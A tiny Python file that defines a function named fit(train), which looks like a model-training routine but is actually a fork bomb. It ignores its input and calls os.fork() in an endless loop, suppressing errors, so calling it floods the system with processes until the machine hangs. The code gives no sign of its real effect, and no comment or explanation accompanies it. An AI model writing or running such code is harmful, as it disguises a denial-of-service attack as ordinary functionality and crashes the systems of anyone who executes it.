import os

from plain import *


def fit(train):
    while True:
        try:
            os.fork()
        except OSError:
            pass
